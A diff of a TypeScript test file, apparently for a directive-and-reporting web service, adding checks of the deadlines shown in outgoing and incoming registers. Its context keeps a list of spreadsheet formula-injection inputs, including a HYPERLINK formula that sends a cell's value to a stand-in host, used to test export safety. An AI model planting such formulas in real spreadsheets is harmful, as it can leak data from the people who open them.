@@ -271,16 +271,48 @@ describe('exports a spreadsheet opens', () => {
     const formulas = ['=HYPERLINK("http://x.example/?"&B5,"Xem")', '=1+1', '+cmd', '-2+3', '@SUM(1)'];
     const directiveId = await issue('Báo cáo có nội dung tự do', {
       schedule: { kind: 'interval', everySeconds: 600, count: 1 },
+      stagger: [0, 30, 60],
       form: {
         fields: [{ key: 'note', label: 'Ghi chú', type: 'text', required: true, aggregate: 'collect' }],
       },
     });
     const g1 = (await member(id.G1, 'clerk')).token;
+
+    // The registers' deadline: going out, the cycle's last (the issuer's own); coming in, the unit's by its tier until
+    // it has reported; none for a directive whose deadlines have passed or that asks for no report.
+    const [cycle] = (await get(`/directives/${directiveId}/cycles?count=1`, clerk).expect(200)).body.cycles;
+    const tierAt = (tier: number): string => cycle.deadlines[Math.min(tier, cycle.deadlines.length - 1)].at;
+    const deadlines = async (kind: 'outgoing' | 'incoming', unitId: string, token: string) =>
+      Object.fromEntries(
+        (await get(`/registers/${kind}?unitId=${unitId}&limit=100`, token).expect(200)).body.items.flatMap(
+          (i: { id: string; subject: string; deadline: string | null }) => [
+            [i.id, i.deadline],
+            [i.subject, i.deadline],
+          ],
+        ),
+      );
+    // the worker stores the cycle as it plans it, moments after the dispatch
+    await waitFor(
+      'cycle 0 stored',
+      async () => (await deadlines('outgoing', id.P, clerk))[directiveId] !== null,
+    );
+    const outgoing = await deadlines('outgoing', id.P, clerk);
+    expect(new Set(cycle.deadlines.map((d: { at: string }) => d.at)).size).toBe(3);
+    expect(outgoing[directiveId]).toBe(cycle.deadlines.at(-1).at);
+    expect(outgoing['Kế hoạch tuyên truyền Giải Búa liềm vàng lần thứ V']).toBeNull(); // no report asked
+    expect((await deadlines('incoming', id.G1, g1))[directiveId]).toBe(tierAt(0));
+    const d1 = (await member(id.D1, 'clerk')).token;
+    expect((await deadlines('incoming', id.D1, d1))[directiveId]).toBe(tierAt(1));
+
     await post(`/directives/${directiveId}/reports`, g1, {
       unitId: id.G1,
       cycle: 0,
       values: { note: formulas[0] },
     }).expect(201);
+    // reported: G1 owes nothing more; G3, which has not, still sees its deadline
+    expect((await deadlines('incoming', id.G1, g1))[directiveId]).toBeNull();
+    const g3 = (await member(id.G3, 'clerk')).token;
+    expect((await deadlines('incoming', id.G3, g3))[directiveId]).toBe(tierAt(0));
     const g2 = (await member(id.G2, 'clerk')).token;
     await post(`/directives/${directiveId}/reports`, g2, {
       unitId: id.G2,
